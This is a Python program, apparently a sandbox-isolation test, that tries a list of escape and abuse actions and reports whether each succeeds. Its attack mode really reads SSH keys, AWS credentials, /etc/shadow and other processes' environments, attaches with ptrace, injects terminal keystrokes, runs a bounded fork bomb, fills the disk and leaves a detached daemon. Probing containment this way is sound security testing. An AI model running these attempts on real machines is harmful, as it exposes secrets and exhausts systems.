#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""A hostile program: tries to read secrets, to reach other processes, the network and the kernel, to exhaust the machine
and to stay behind. Standard library only. Meant to be run in a cell:

    hostile.py --attack HOME MARKER    tries everything, one line per attempt: name, TAB, `got` or `no`, TAB, what happened
    hostile.py --dry HOME              the same names, asking only whether it would be allowed: reads no secret, harms nothing

HOME is the folder whose secrets it is after; MARKER is a word for the daemon that it leaves behind.
"""
import ctypes
import errno
import os
import resource
import socket
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
TIOCSTI, KEYCTL, ADD_KEY, UNSHARE, PTRACE_ATTACH = 0x5412, 250, 248, 272, 16
AF_VSOCK, AF_ALG = 40, 38


WORDS = {"ENOENT": "not there", "EACCES": "permission denied", "EPERM": "refused", "EAFNOSUPPORT": "no such family"}


def said(error):
    """An OSError in few words."""
    name = errno.errorcode.get(error.errno, "?")
    return f"{name} {WORDS.get(name, os.strerror(error.errno).lower())}" if error.errno else str(error)


def call(number, *arguments):
    """A raw system call: its result, or an OSError."""
    result = libc.syscall(ctypes.c_long(number), *[ctypes.c_char_p(a) if isinstance(a, bytes) else ctypes.c_long(a) for a in arguments])
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def readable(path):
    """Dry: permission only."""
    return (True, "readable") if os.access(path, os.R_OK) else (False, "not readable" if os.path.exists(path) else "not there")


def steal(path):
    with open(path, "rb") as file:
        return True, f"read {len(file.read(4096))} bytes"


def others():
    """Processes of anybody else whose environment could be read."""
    mine, found = {os.getpid(), os.getppid()}, 0
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) not in mine and os.access(f"/proc/{name}/environ", os.R_OK):
            found += 1
    return found


def steal_environments():
    count = 0
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            try:
                with open(f"/proc/{name}/environ", "rb") as file:
                    count += 1 if file.read(16) else 0
            except OSError:
                pass
    return count > 0, f"{count} read of {sum(n.isdigit() for n in os.listdir('/proc'))} processes"


def neighbour():
    """A process to attach to: ours if it may be, else PID 1."""
    for name in sorted((n for n in os.listdir("/proc") if n.isdigit()), key=int):
        if int(name) not in (os.getpid(), os.getppid()) and os.access(f"/proc/{name}/environ", os.R_OK):
            return int(name)
    return 1


def dry_ptrace():
    try:
        scope = int(open("/proc/sys/kernel/yama/ptrace_scope").read())
    except OSError:
        scope = 0
    return (True, "allowed") if (scope == 0 or os.geteuid() == 0) and others() else (False, "refused by the kernel")


def attach():
    ctypes.set_errno(0)
    if libc.ptrace(PTRACE_ATTACH, neighbour(), 0, 0) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return True, "attached"


def open_memory():
    os.close(os.open("/proc/1/mem", os.O_RDWR))
    return True, "opened"


def environment():
    secret = os.environ.get("DEMO_API_KEY")
    return (True, "DEMO_API_KEY is there") if secret else (False, f"not among {len(os.environ)} variables")


def descriptors():
    found = [n for n in os.listdir("/proc/self/fd") if int(n) > 2 and os.path.exists(f"/proc/self/fd/{n}") and "/proc/" not in os.readlink(f"/proc/self/fd/{n}")]
    return (True, f"{len(found)} open files") if found else (False, "only stdin, stdout, stderr")


def keyring():
    call(ADD_KEY, b"user", b"demo", b"x", 1, -3)
    return True, "key added"


def dry_keyring():
    call(KEYCTL, 0, -3, 0)
    return True, "keyring open"


def sock(family, kind=socket.SOCK_STREAM):
    def attempt():
        call(41, family, kind, 0)
        return True, "socket made"
    return attempt


def upload():
    with socket.create_connection(("192.0.2.1", 80), timeout=2):
        return True, "connected"


def dry_upload():
    # A datagram socket that is connected sends nothing: it only asks for a route.
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect(("192.0.2.1", 80))
    return True, "there is a route"


def mount():
    if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return True, "mounted"


def dry_mount():
    return (True, "allowed: we are root") if os.geteuid() == 0 else dry_unshare()


def unshare():
    call(UNSHARE, 0x10000000)
    return True, "new user namespace"


def dry_unshare():
    def number(path, default):
        try:
            return int(open(path).read())
        except (OSError, ValueError):
            return default
    free = number("/proc/sys/user/max_user_namespaces", 0) > 0 and number("/proc/sys/kernel/unprivileged_userns_clone", 1) == 1
    return (True, "allowed") if free else (False, "refused by a sysctl")


def type_for_you():
    import fcntl
    for descriptor in (0, 1, 2):
        try:
            fcntl.ioctl(descriptor, TIOCSTI, b"\n")
            return True, "typed"
        except OSError as error:
            last = error
    raise last


def dry_type():
    try:
        free = open("/proc/sys/dev/tty/legacy_tiocsti").read().strip() == "1"
    except OSError:
        free = True
    return (True, "the kernel allows it") if free else (False, "the kernel refuses it")


def write_binary():
    for path in ("/usr/bin/env", "/bin/sh"):
        os.close(os.open(path, os.O_WRONLY))
    return True, "opened for writing"


def dry_binary():
    return (True, "writable") if os.access("/usr/bin/env", os.W_OK) else (False, "not writable")


def core_pattern():
    os.close(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY))
    return True, "opened for writing"


def dry_core_pattern():
    return (True, "writable") if os.access("/proc/sys/kernel/core_pattern", os.W_OK) else (False, "not writable")


def fork_bomb():
    """Up to 5,000 processes that wait; says how many there were."""
    read, write = os.pipe()
    count, why = 0, None
    try:
        while count < 5000:
            if os.fork() == 0:
                os.close(write)
                os.read(read, 1)
                os._exit(0)
            count += 1
    except OSError as error:
        why = errno.errorcode.get(error.errno, "?")
    os.close(write)
    try:
        while True:
            os.waitpid(-1, 0)
    except ChildProcessError:
        pass
    os.close(read)
    return why is None, f"{why} after {count} processes" if why else f"{count} processes"


def dry_fork_bomb():
    soft, _ = resource.getrlimit(resource.RLIMIT_NPROC)
    return True, "no bound" if soft == resource.RLIM_INFINITY or os.geteuid() == 0 else f"up to {soft} processes"


def fill_disk():
    block, total, path = b"\0" * (1 << 20), 0, "/tmp/filler"
    try:
        with open(path, "wb", buffering=0) as file:
            while total < 2048:
                file.write(block)
                total += 1
    except OSError as error:
        return False, f"{errno.errorcode.get(error.errno)} after {total} MB"
    finally:
        if os.path.exists(path):
            os.unlink(path)
    return True, f"{total} MB written"


def dry_fill_disk():
    free = os.statvfs("/tmp")
    return True, f"{free.f_bavail * free.f_frsize >> 20} MB to fill"


def daemon(marker):
    """Leaves a process behind, detached twice; whether it outlived the cell is seen from outside."""
    def attempt():
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execvp("sleep", ["sleep", f"3600.{marker}"])
            os._exit(0)
        time.sleep(0.1)
        return True, "started"
    return attempt


def attempts(home, marker):
    return [
        ("read ~/.ssh/id_ed25519", lambda: readable(f"{home}/.ssh/id_ed25519"), lambda: steal(f"{home}/.ssh/id_ed25519")),
        ("read ~/.aws/credentials", lambda: readable(f"{home}/.aws/credentials"), lambda: steal(f"{home}/.aws/credentials")),
        ("read /etc/shadow", lambda: readable("/etc/shadow"), lambda: steal("/etc/shadow")),
        ("read the API key in env", environment, environment),
        ("read open descriptors", descriptors, descriptors),
        ("read others' environments", lambda: (others() > 0, f"{others()} processes"), steal_environments),
        ("open /proc/1/mem", lambda: (os.access("/proc/1/mem", os.W_OK), "allowed" if os.access("/proc/1/mem", os.W_OK) else "refused"), open_memory),
        ("ptrace another process", dry_ptrace, attach),
        ("use the keyring", dry_keyring, keyring),
        ("send data out (TCP)", dry_upload, upload),
        ("socket AF_INET", sock(socket.AF_INET), sock(socket.AF_INET)),
        ("socket AF_UNIX", sock(socket.AF_UNIX), sock(socket.AF_UNIX)),
        ("socket AF_VSOCK (hypervisor)", sock(AF_VSOCK), sock(AF_VSOCK)),
        ("socket AF_ALG (crypto)", sock(AF_ALG, socket.SOCK_SEQPACKET), sock(AF_ALG, socket.SOCK_SEQPACKET)),
        ("mount a file system", dry_mount, mount),
        ("unshare a user namespace", dry_unshare, unshare),
        ("type into your terminal", dry_type, type_for_you),
        ("overwrite /usr/bin/env", dry_binary, write_binary),
        ("set core_pattern", dry_core_pattern, core_pattern),
        ("fork bomb", dry_fork_bomb, fork_bomb),
        ("fill the disk", dry_fill_disk, fill_disk),
        ("leave a daemon behind", lambda: (True, "stays"), daemon(marker)),
    ]


def main():
    if len(sys.argv) < 3 or sys.argv[1] not in ("--attack", "--dry"):
        sys.exit(__doc__)
    attack = sys.argv[1] == "--attack"
    for name, dry, real in attempts(sys.argv[2], sys.argv[3] if len(sys.argv) > 3 else "0"):
        try:
            got, what = real() if attack else dry()
        except OSError as error:
            got, what = False, said(error)
        print(f"{name}\t{'got' if got else 'no'}\t{what}", flush=True)


main()
